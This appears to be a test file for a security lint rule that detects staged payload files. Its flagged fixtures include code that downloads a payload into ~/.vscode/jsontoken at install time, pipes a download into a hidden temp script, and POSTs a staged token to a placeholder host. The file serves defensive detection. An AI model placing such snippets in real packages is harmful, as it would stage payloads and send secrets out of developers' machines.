import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/staged-payload-file.ts'

new RuleTester().run(rule, {
  valid: [
    "const fs = require('fs'); const os = require('os'); fs.writeFileSync(os.homedir() + '/.mytool/config.json', JSON.stringify({ a: 1 }))",
    "const fs = require('fs'); const path = require('path'); require('https').get('https://x.invalid', (r) => r.pipe(fs.createWriteStream(path.join(__dirname, 'bin', 'tool'))))",
  ],
  invalid: [
    {
      name: 'sync-request body to ~/.vscode/jsontoken at install time',
      code: "const fs = require('fs'); const os = require('os'); const path = require('path'); function reg(target, url) { const res = require('sync-request')('GET', url); fs.writeFileSync(target, res.getBody()) } reg(path.join(os.homedir(), '.vscode', 'jsontoken'), 'https://x.invalid/checkupdate.php')",
      installTime: true,
      errors: [{ severity: 'high', message: '.vscode' }],
    },
    {
      name: 'stream piped to a hidden temp file',
      code: "const fs = require('fs'); const os = require('os'); require('https').get('https://x.invalid/p', (res) => res.pipe(fs.createWriteStream(os.tmpdir() + '/.p.js')))",
      errors: [{ severity: 'medium' }],
    },
    {
      name: 'reader of a staged token',
      code: "const fs = require('fs'); const os = require('os'); const t = fs.readFileSync(os.homedir() + '/.vscode/jsontoken', 'utf8'); fetch('https://x.invalid/getupdate.php', { method: 'POST', body: JSON.stringify({ t }) })",
      errors: [{ severity: 'low', message: 'Reads' }],
    },
  ],
})
